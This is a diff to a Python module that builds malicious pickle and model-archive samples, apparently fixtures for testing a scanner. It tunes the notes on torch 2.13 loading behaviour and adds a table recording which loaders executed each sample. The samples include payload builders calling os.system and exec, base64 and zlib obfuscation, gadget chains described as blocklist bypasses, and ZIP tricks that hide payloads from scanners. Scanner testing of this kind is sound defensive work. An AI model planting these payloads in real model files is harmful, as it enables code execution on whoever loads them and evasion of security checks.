@@ -44,7 +44,7 @@ import sys
 import tarfile
 import zlib
 from collections.abc import Callable, Iterable, Sequence
-from dataclasses import dataclass
+from dataclasses import dataclass, replace
 from pathlib import Path
 
 __all__ = [
@@ -420,12 +420,7 @@ def bytes_p0(b: bytes) -> Raw:
     return frag(
         0,
         lambda a: (
-            a.global_("_codecs", "encode")
-            .mark()
-            .unicode(b.decode("latin-1"))
-            .unicode("latin1")
-            .tuple_()
-            .reduce()
+            a.global_("_codecs", "encode").mark().unicode(b.decode("latin-1")).unicode("latin1").tuple_().reduce()
         ),
     )
 
@@ -576,9 +571,7 @@ def legacy_parts() -> list[bytes]:
     protocol = Asm(2).int_(1001).done()
     sys_info = (
         Asm(2)
-        .val(
-            {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
-        )
+        .val({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}})
         .done()
     )
     data = BENIGN
@@ -601,9 +594,7 @@ def make_tar(members: Sequence[tuple[str, bytes]], fmt: int = tarfile.USTAR_FORM
     return buf.getvalue()
 
 
-def npy_object(
-    pkl: bytes, version: tuple[int, int] = (1, 0), shape: str = "(1,)", descr: str = "'|O'"
-) -> bytes:
+def npy_object(pkl: bytes, version: tuple[int, int] = (1, 0), shape: str = "(1,)", descr: str = "'|O'") -> bytes:
     """A ``.npy`` file declaring an object array, followed by its (malicious) pickle."""
     header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}"
     hlen_size = 2 if version == (1, 0) else 4
@@ -619,8 +610,8 @@ def npy_object(
 def seven_zip(members: Sequence[tuple[str, bytes]]) -> bytes | None:
     """7z archive via py7zr with pinned timestamps (None when py7zr is unavailable)."""
     try:
-        import py7zr  # noqa: PLC0415 - optional, lazily imported on purpose
-        from py7zr import helpers  # noqa: PLC0415
+        import py7zr
+        from py7zr import helpers
     except ImportError:
         return None
     fixed = helpers.ArchiveTimestamp.from_datetime(315532800.0)  # 1980-01-01, like the ZIP samples
@@ -661,9 +652,7 @@ class _Reg:
         if data is None:  # optional dependency missing
             return
         self.samples.append(
-            Sample(
-                name, technique, tuple(refs), filename, data, expect, note, tuple(alt), tuple(loaders), live
-            )
+            Sample(name, technique, tuple(refs), filename, data, expect, note, tuple(alt), tuple(loaders), live)
         )
 
 
@@ -789,9 +778,7 @@ def _protocols(r: _Reg) -> None:
         "STACK_GLOBAL operands pushed with BINUNICODE8 (8-byte length), rarely emitted by CPython.",
     )
     a = Asm(5)
-    a.glob("os", "system").raw(b"\x96" + struct.pack("<Q", 0)).pop().short_binunicode(
-        SHELL_CMD
-    ).tuple1().reduce()
+    a.glob("os", "system").raw(b"\x96" + struct.pack("<Q", 0)).pop().short_binunicode(SHELL_CMD).tuple1().reduce()
     r.add(
         "protocol_5_bytearray8_noise",
         t,
@@ -1225,9 +1212,7 @@ def _stack_global(r: _Reg) -> None:
     a2 = Asm(4)
     a2.glob("builtins", "bytes.decode").tuple_of([frag(4, lambda b: b.call("base64", "b64decode", "b3M="))])
     a2.reduce()  # -> 'os'
-    a2.glob("builtins", "bytes.decode").tuple_of(
-        [frag(4, lambda b: b.call("base64", "b64decode", "c3lzdGVt"))]
-    )
+    a2.glob("builtins", "bytes.decode").tuple_of([frag(4, lambda b: b.call("base64", "b64decode", "c3lzdGVt"))])
     a2.reduce()  # -> 'system'
     a2.stack_global().short_binunicode(SHELL_CMD).tuple1().reduce()
     r.add(
@@ -1307,9 +1292,7 @@ def _dotted(r: _Reg) -> None:
         alt=("asyncio.subprocess.subprocess.Popen",),
     )
     a = Asm(4)
-    a.glob("builtins", "dict.get").tuple_of(
-        [frag(4, lambda b: b.glob("collections", "__builtins__")), "exec"]
-    )
+    a.glob("builtins", "dict.get").tuple_of([frag(4, lambda b: b.glob("collections", "__builtins__")), "exec"])
     a.reduce().short_binunicode(PY_SRC).tuple1().reduce()
     r.add(
         "dotted_module_builtins_dict",
@@ -1746,9 +1729,7 @@ def _nested(r: _Reg) -> None:
         alt=("base64.b64decode", "os.system"),
     )
     a = Asm(4)
-    a.glob("pickle", "loads").tuple_of(
-        [frag(4, lambda b: b.call("zlib", "decompress", zlib.compress(inner, 9)))]
-    )
+    a.glob("pickle", "loads").tuple_of([frag(4, lambda b: b.call("zlib", "decompress", zlib.compress(inner, 9)))])
     a.reduce()
     r.add(
         "nested_zlib_loads",
@@ -1757,8 +1738,7 @@ def _nested(r: _Reg) -> None:
         "nested_zlib_loads.pkl",
         a.done(),
         "pickle.loads",
-        "pickle.loads(zlib.decompress(...)): inner pickle is compressed; only decompress-and-rescan finds "
-        "it.",
+        "pickle.loads(zlib.decompress(...)): inner pickle is compressed; only decompress-and-rescan finds it.",
         alt=("zlib.decompress", "os.system"),
     )
     a = Asm(4)
@@ -1882,9 +1862,7 @@ def _nested(r: _Reg) -> None:
     # CVE-2025-1889 shape: inner malicious pickle stored under a .json member, loaded with pickle_file=.
     inner_zip = build_zip(torch_entries(BENIGN, extra=[ZEntry("archive/config.json", sh_pickle(2))]))
     a = Asm(4)
-    a.glob("functools", "partial").tuple_of(
-        [frag(4, lambda b: b.glob("torch", "load")), _bytesio(4, inner_zip)]
-    )
+    a.glob("functools", "partial").tuple_of([frag(4, lambda b: b.glob("torch", "load")), _bytesio(4, inner_zip)])
     a.val({"weights_only": False, "pickle_file": "config.json"}).newobj_ex().empty_tuple().reduce()
     r.add(
         "nested_torch_load_pickle_file_json",
@@ -1982,8 +1960,10 @@ def _torch(r: _Reg) -> None:
             build_zip(ents),
             "os.system",
             f"General-purpose flag {flag:#x} ({why}) set on data.pkl although the data is plain: "
-            "zipfile refuses to open it, a loader that ignores flags reads it.",
-            loaders=("torch",),
+            "zipfile refuses to open it (Sonatype's fixtures set it in both headers). torch 2.13's miniz "
+            "also refuses a central-directory encryption/patch flag, so this variant is static-only here "
+            "(older readers ignored it); see zip_flag_encrypted_local_only for the live variant.",
+            loaders=(),
         )
     ents = torch_entries(pay)
     ents[0].local_flags = 0x1
@@ -1994,7 +1974,8 @@ def _torch(r: _Reg) -> None:
         "zip_flag_local_only.pt",
         build_zip(ents),
         "os.system",
-        "Encryption bit only in the local header (central directory says plain).",
+        "Encryption bit only in the local header (central directory says plain): torch 2.13 loads it, "
+        "zipfile raises 'password required'.",
         loaders=("torch",),
     )
     ents = torch_entries(pay)
@@ -2033,9 +2014,10 @@ def _torch(r: _Reg) -> None:
         "zip_duplicate_first.pt",
         build_zip(ents),
         "os.system",
-        "Two central entries named archive/data.pkl: zipfile's name lookup returns the *last* (benign) one, "
-        "so scanners that iterate namelist() and open by name scan the benign copy twice.",
-        loaders=("torch",),
+        "Two central entries named archive/data.pkl, malicious first. torch 2.13 and zipfile's by-name "
+        "lookup both use the *last* entry, so this copy never runs here; kept so a scanner reports "
+        "duplicate names and scans every entry by offset.",
+        loaders=(),
     )
     ents = [ZEntry("archive/data.pkl", BENIGN), ZEntry("archive/data.pkl", pay), *torch_entries(BENIGN)[1:]]
     r.add(
@@ -2045,7 +2027,8 @@ def _torch(r: _Reg) -> None:
         "zip_duplicate_last.pt",
         build_zip(ents),
         "os.system",
-        "Same with the order swapped; a scanner must scan every central-directory entry by offset.",
+        "Duplicate archive/data.pkl, malicious last: torch 2.13 loads the last entry; a scanner that "
+        "deduplicates names keeping the first (or walks local headers and stops early) misses it.",
         loaders=("torch",),
     )
     ents = torch_entries(pay)
@@ -2103,7 +2086,8 @@ def _torch(r: _Reg) -> None:
         _fake_eocd_zip(pay),
         "os.system",
         "Two central directories: the real EOCD (pointing at the malicious one) carries, as its comment, a "
-        "second EOCD pointing at a benign copy. Parsers choose different EOCDs.",
+        "second EOCD pointing at a benign copy. zipfile and torch 2.13 both pick the trailing (benign) EOCD, "
+        "so nothing runs here; it is a parser-robustness sample (3 of 4 peers crash or report clean).",
         loaders=(),
     )
 
@@ -2316,7 +2300,7 @@ def _joblib(r: _Reg) -> None:
         loaders=("joblib",),
     )
     try:
-        import lz4.frame  # type: ignore[import-untyped]  # noqa: PLC0415 - optional, lazily imported
+        import lz4.frame  # type: ignore[import-untyped,unused-ignore]
 
         lz = bytes(lz4.frame.compress(pay))
     except ImportError:
@@ -2515,7 +2499,7 @@ def _names(r: _Reg) -> None:
         "model.safetensors",
         pay,
         "os.system",
-        "Pickle named .safetensors (trusted extension).",
+        "Pickle named .safetensors (trusted extension). torch 2.13 refuses the extension, the other loaders run it.",
         loaders=("pickle", "torch", "numpy", "joblib"),
     )
     png = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + b"\x00" * 17
@@ -2723,8 +2707,7 @@ def _gadgets(r: _Reg) -> None:
         "run_cprofile",
         [PY_SRC, {}],
         [PS + "GHSA-4r9r-ch6f-vxmx"],
-        "exec via cProfile in torch<=2.x bottleneck (module removed "
-        "in torch 2.13, still shipped by older torch).",
+        "exec via cProfile in torch<=2.x bottleneck (module removed in torch 2.13, still shipped by older torch).",
         loaders=(),
     )
     g(
@@ -2845,8 +2828,7 @@ def _gadgets(r: _Reg) -> None:
         "_UnixSubprocessTransport._start",
         [{}, SHELL_CMD, True, None, None, None, 0],
         ["CVE-2025-10157", PS + "GHSA-f7qq-56ww-84cr", PS + "GHSA-q77w-mwjj-7mqx"],
-        "Popen(shell=True) inside a private asyncio method; exact-match blocklists "
-        "on 'asyncio' missed the submodule.",
+        "Popen(shell=True) inside a private asyncio method; exact-match blocklists on 'asyncio' missed the submodule.",
     )
     g(
         "PROCESS",
@@ -3170,8 +3152,7 @@ def _gadgets(r: _Reg) -> None:
         "gadget_pkgutil_resolve_name.pkl",
         a.done(),
         "pkgutil.resolve_name",
-        "resolve_name('os:system') returns os.system, then REDUCE calls it: one universal bypass of any "
-        "blocklist.",
+        "resolve_name('os:system') returns os.system, then REDUCE calls it: one universal bypass of any blocklist.",
         alt=("os.system",),
     )
     a = Asm(4)
@@ -3244,9 +3225,7 @@ def _gadgets(r: _Reg) -> None:
         alt=("collections.__builtins__", "builtins.exec"),
     )
     a = Asm(4)
-    a.call(
-        "functools", "partial", frag(4, lambda b: b.glob("os", "system")), SHELL_CMD
-    ).empty_tuple().reduce()
+    a.call("functools", "partial", frag(4, lambda b: b.glob("os", "system")), SHELL_CMD).empty_tuple().reduce()
     r.add(
         "gadget_functools_partial",
         "GADGET-ATTR-INDIRECTION",
@@ -3275,6 +3254,233 @@ def _gadgets(r: _Reg) -> None:
 # ---------------------------------------------------------------------------------------------
 # Public API
 # ---------------------------------------------------------------------------------------------
+
+#: Loaders that really executed each sample in ``verify_live.py`` (CPython 3.11.7, torch 2.13.0+cpu,
+#: numpy 2.4.6, joblib 1.6.0, py7zr 1.1.4, Linux). Overrides the hand-declared ``loaders`` so that
+#: the field states observed behaviour, not expectations. Regenerate with
+#: ``verify_live.py --emit-table`` after changing samples.
+_ALL = ("pickle", "pickle-multi", "torch", "numpy", "joblib")
+_VERIFIED_LOADERS: dict[str, tuple[str, ...]] = {
+    "direct_os_system": _ALL,
+    "direct_subprocess_popen": _ALL,
+    "direct_subprocess_getoutput": _ALL,
+    "direct_builtins_eval": _ALL,
+    "direct_builtins_exec": _ALL,
+    "direct_builtin_py2_eval": _ALL,
+    "import_getattr_chain": _ALL,
+    "import_getattr_chain_p2": _ALL,
+    "protocol_0_os_system": _ALL,
+    "protocol_1_os_system": _ALL,
+    "protocol_2_os_system": _ALL,
+    "protocol_3_os_system": _ALL,
+    "protocol_4_os_system": _ALL,
+    "protocol_5_os_system": _ALL,
+    "protocol_5_binunicode8_operands": _ALL,
+    "protocol_5_bytearray8_noise": _ALL,
+    "stack_global_string_operands": _ALL,
+    "alias_posix_system": _ALL,
+    "alias_nt_system": (),
+    "alias_io_fileio": _ALL,
+    "alias_operator_private": _ALL,
+    "alias_cpickle_loads": _ALL,
+    "alias_commands_getoutput": _ALL,
+    "alias_urllib_urlretrieve": _ALL,
+    "alias_thread_start_new_thread": _ALL,
+    "alias_builtin_reduce_py2": _ALL,
+    "alias_posixsubprocess_fork_exec": _ALL,
+    "inst_os_system": _ALL,
+    "inst_builtin_exec": _ALL,
+    "obj_pty_spawn": _ALL,
+    "obj_result_popped": _ALL,
+    "newobj_partial_os_system": _ALL,
+    "newobj_ex_partial_kwargs": _ALL,
+    "build_setstate_injection": _ALL,
+    "stack_global_memo_binget": _ALL,
+    "stack_global_memo_long_binget": _ALL,
+    "stack_global_memo_text_get": _ALL,
+    "stack_global_memo_put_memoize_mix": _ALL,
+    "stack_global_memo_overwrite": _ALL,
+    "stack_global_dup_pop": _ALL,
+    "stack_global_pop_mark_decoy": _ALL,
+    "stack_global_keyerror_after_payload": _ALL,
+    "stack_global_type_confusion_after_payload": _ALL,
+    "stack_global_name_from_rot13_call": _ALL,
+    "stack_global_both_from_base64": _ALL,
+    "stack_global_str_join": _ALL,
+    "stack_global_from_build_attrs": _ALL,
+    "dotted_pathlib_os_system": _ALL,
+    "dotted_posixpath_os_system": _ALL,
+    "dotted_asyncio_subprocess_popen": _ALL,
+    "dotted_module_builtins_dict": _ALL,
+    "dotted_after_build_sys_modules": _ALL,
+    "dotted_object_getattribute": _ALL,
+    "numpy_size_builtins_getitem": (),
+    "ext1_self_registered": _ALL,
+    "ext2_self_registered": _ALL,
+    "ext4_self_registered": _ALL,
+    "ext1_unregistered": (),
+    "build_poisons_allowlisted_global": _ALL,
+    "build_sets_instance_dunder": (),
+    "unicode_escape_operands": _ALL,
+    "string_escape_operands": _ALL,
+    "string_double_quoted_operands": _ALL,
+    "broken_invalid_opcode_after_reduce": _ALL,
+    "broken_truncated_no_stop": _ALL,
+    "broken_binunicode_overrun": _ALL,
+    "broken_stack_underflow_after_payload": _ALL,
+    "broken_mark_missing_after_payload": _ALL,
+    "broken_trailing_junk_after_stop": _ALL,
+    "multi_stream_payload_second": ("pickle-multi",),
+    "multi_stream_payload_fifth": ("pickle-multi",),
+    "multi_stream_junk_between": (),
+    "frame_boundary_straddle": ("pickle", "pickle-multi", "torch", "numpy"),
+    "proto_upgrade_midstream": _ALL,
+    "no_proto_starts_with_mark": _ALL,
+    "nested_pickle_loads": _ALL,
+    "nested_cpickle_c_loads": _ALL,
+    "nested_forkingpickler_loads": _ALL,
+    "nested_unpickler_load_method": _ALL,
+    "nested_base64_loads": _ALL,
+    "nested_zlib_loads": _ALL,
+    "nested_hex_loads": _ALL,
+    "nested_torch_load_pickle_module": _ALL,
+    "nested_torch_storage_load_from_bytes": _ALL,
+    "nested_torch_basichandlers": _ALL,
+    "nested_torch_config_load_config": _ALL,
+    "nested_numpy_load_allow_pickle": _ALL,
+    "nested_joblib_load": _ALL,
+    "nested_dill_loads": _ALL,
+    "nested_cloudpickle_loads": _ALL,
+    "nested_pandas_read_pickle": _ALL,
+    "nested_lib2to3_grammar_loads": _ALL,
+    "nested_marshal_function": _ALL,
+    "nested_torch_load_pickle_file_json": _ALL,
+    "torch_zip_data_pkl": ("torch",),
+    "torch_zip_custom_prefix": ("torch",),
+    "torch_zip_other_pkl_member": ("torch:pickle_file=extra/tokenizer.pkl",),
+    "torch_zip_payload_txt_member": ("torch:pickle_file=notes.txt",),
+    "zip_bad_crc": ("torch",),
+    "zip_flag_0x01": (),
+    "zip_flag_0x20": (),
+    "zip_flag_0x40": (),
+    "zip_flag_encrypted_local_only": ("torch",),
+    "zip_data_descriptor": ("torch",),
+    "zip_local_name_mismatch": ("torch",),
+    "zip_duplicate_name_malicious_first": (),
+    "zip_duplicate_name_malicious_last": ("torch",),
+    "zip_corrupt_extra_field": ("torch",),
+    "zip_corrupt_entry_before_data": (),
+    "zip_prefix_junk": (),
+    "zip_prefix_pickle_polyglot": _ALL,
+    "zip_comment_fake_eocd": (),
+    "legacy_payload_in_magic": _ALL,
+    "legacy_payload_in_protocol": ("pickle-multi", "torch"),
+    "legacy_payload_in_sys_info": ("pickle-multi", "torch"),
+    "legacy_payload_in_data": ("pickle-multi", "torch"),
+    "legacy_payload_in_storage_keys": ("pickle-multi", "torch"),
+    "legacy_magic_via_eval": ("pickle-multi", "torch"),
+    "legacy_tar_payload_in_storages": ("torch",),
+    "legacy_tar_payload_in_tensors": ("torch",),
+    "legacy_tar_payload_in_pickle": ("torch",),
+    "npy_object_v1": ("numpy",),
+    "npy_object_v2": ("numpy",),
+    "npy_object_v3": ("numpy",),
+    "npy_structured_object_field": ("numpy",),
+    "npy_raw_pickle_renamed": _ALL,
+    "npz_object_member_stored": ("numpy",),
+    "npz_object_member_deflated": ("numpy",),
+    "joblib_zlib": ("joblib",),
+    "joblib_gzip": ("joblib",),
+    "joblib_bz2": ("joblib",),
+    "joblib_xz": ("joblib",),
+    "joblib_lzma_alone": ("joblib",),
+    "joblib_lz4": ("joblib",),
+    "joblib_raw_pickle": _ALL,
+    "joblib_inline_object_array": _ALL,
+    "joblib_gzip_inline_object_array": ("joblib",),
+    "sevenzip_torch_nullifai": ("extract+pickle",),
+    "sevenzip_raw_pickle": ("extract+pickle",),
+    "zip_in_zip_torch": ("extract+torch",),
+    "tar_gz_torch": ("extract+torch",),
+    "gzip_torch": ("extract+torch",),
+    "tar_zip_pickle_double": ("extract+pickle",),
+    "pickle_as_png": _ALL,
+    "pickle_as_bin": _ALL,
+    "pickle_no_extension": _ALL,
+    "pickle_as_json": _ALL,
+    "pickle_as_safetensors": ("pickle", "pickle-multi", "numpy", "joblib"),
+    "pickle_png_trailer_polyglot": _ALL,
+    "gadget_runpy_run_code": _ALL,
+    "gadget_interactive_interpreter_runsource": _ALL,
+    "gadget_cprofile_run": _ALL,
+    "gadget_cprofile_runctx": _ALL,
+    "gadget_profile_run": _ALL,
+    "gadget_profile_profile_run": _ALL,
+    "gadget_timeit_setup": _ALL,
+    "gadget_trace_run": _ALL,
+    "gadget_bdb_run": _ALL,
+    "gadget_numpy_runstring": _ALL,
+    "gadget_numpy_f2py_eval_length": _ALL,
+    "gadget_torch_execwrapper": _ALL,
+    "gadget_torch_evaluate_guards_expression": _ALL,
+    "gadget_torch_bottleneck_run_cprofile": (),
+    "gadget_torch_dynamo_guardbuilder_get": (),
+    "gadget_idle_autocomplete_get_entity": _ALL,
+    "gadget_idle_calltip_get_entity": _ALL,
+    "gadget_idle_debugobj_settext": _ALL,
+    "gadget_lib2to3_make_label": _ALL,
+    "gadget_logging_dictconfig_factory": _ALL,
+    "gadget_os_popen": _ALL,
+    "gadget_os_posix_spawnp": _ALL,
+    "gadget_os_spawnvp": _ALL,
+    "gadget_os_execvp": _ALL,
+    "gadget_subprocess_run": _ALL,
+    "gadget_subprocess_check_output": _ALL,
+    "gadget_subprocess_getstatusoutput": _ALL,
+    "gadget_multiprocessing_spawnv_passfds": _ALL,
+    "gadget_asyncio_unix_subprocess_start": _ALL,
+    "gadget_uuid_get_command_stdout": _ALL,
+    "gadget_osx_support_read_output": _ALL,
+    "gadget_osx_support_find_build_tool": _ALL,
+    "gadget_aix_support_read_cmd_output": (),
+    "gadget_imaplib_imap4_stream": _ALL,
+    "gadget_mailcap_findmatch": _ALL,
+    "gadget_pydoc_pipepager": _ALL,
+    "gadget_pydoc_tempfilepager": _ALL,
+    "gadget_torch_collect_env_run": _ALL,
+    "gadget_torch_collect_env_run_and_read_all": _ALL,
+    "gadget_distutils_spawn": _ALL,
+    "gadget_webbrowser_genericbrowser_open": _ALL,
+    "gadget_test_support_assert_python_ok": _ALL,
+    "gadget_ensurepip_run_pip": _ALL,
+    "gadget_pip_main": _ALL,
+    "gadget_pty_spawn": _ALL,
+    "gadget_map_indirect_call": _ALL,
+    "gadget_atexit_register": _ALL,
+    "gadget_builtins_open_write": _ALL,
+    "gadget_codecs_open_write": _ALL,
+    "gadget_shutil_copyfile": _ALL,
+    "gadget_pathlib_write_text": _ALL,
+    "gadget_logging_filehandler": _ALL,
+    "gadget_distutils_write_file": _ALL,
+    "gadget_sqlite3_connect": _ALL,
+    "gadget_zipfile_create": _ALL,
+    "gadget_linecache_read": (),
+    "gadget_socket_create_connection": _ALL,
+    "gadget_urllib_urlopen": _ALL,
+    "gadget_smtplib_smtp": _ALL,
+    "gadget_ssl_get_server_certificate": _ALL,
+    "gadget_requests_get": _ALL,
+    "gadget_webbrowser_open": _ALL,
+    "gadget_pkgutil_resolve_name": _ALL,
+    "gadget_pydoc_locate": _ALL,
+    "gadget_importlib_import_module": _ALL,
+    "gadget_cloudpickle_subimport": _ALL,
+    "gadget_operator_attrgetter": _ALL,
+    "gadget_operator_itemgetter_builtins": _ALL,
+    "gadget_functools_partial": _ALL,
+    "gadget_ctypes_cdll_system": _ALL,
+}
 
 _SECTIONS: tuple[Callable[[_Reg], None], ...] = (
     _direct,
@@ -3305,13 +3511,13 @@ def build_all() -> list[Sample]:
         section(reg)
     seen: set[str] = set()
     out: list[Sample] = []
-    for s in reg.samples:
-        if s.name in seen:
-            raise AssertionError(f"duplicate sample name {s.name}")
-        seen.add(s.name)
-        if s.live and s.name in _VERIFIED_LOADERS:
-            s = replace(s, loaders=_VERIFIED_LOADERS[s.name])
-        out.append(s)
+    for sample in reg.samples:
+        if sample.name in seen:
+            raise AssertionError(f"duplicate sample name {sample.name}")
+        seen.add(sample.name)
+        if sample.live and sample.name in _VERIFIED_LOADERS:
+            sample = replace(sample, loaders=_VERIFIED_LOADERS[sample.name])  # noqa: PLW2901
+        out.append(sample)
     return out
 
 
